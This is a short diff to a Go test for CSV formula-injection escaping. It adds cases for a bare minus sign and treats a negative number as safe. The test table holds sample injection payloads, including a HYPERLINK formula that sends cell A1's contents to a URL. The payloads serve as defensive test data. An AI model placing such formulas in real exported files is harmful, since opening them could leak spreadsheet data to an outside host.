@@ -83,6 +83,9 @@ func TestCSVFormulaInjection(t *testing.T) {
 		{`=HYPERLINK("https://example.com/?"&A1,"x")`, `'=HYPERLINK("https://example.com/?"&A1,"x")`},
 		{"+1+1", "'+1+1"},
 		{"-2+3", "'-2+3"},
+		{"-", "'-"},
+		{"-1-1", "'-1-1"},
+		{"-12", "-12"}, // a negative number is not a formula
 		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
 		{"\t=1", "'\t=1"},
 		{"\r=1", "'\r=1"},
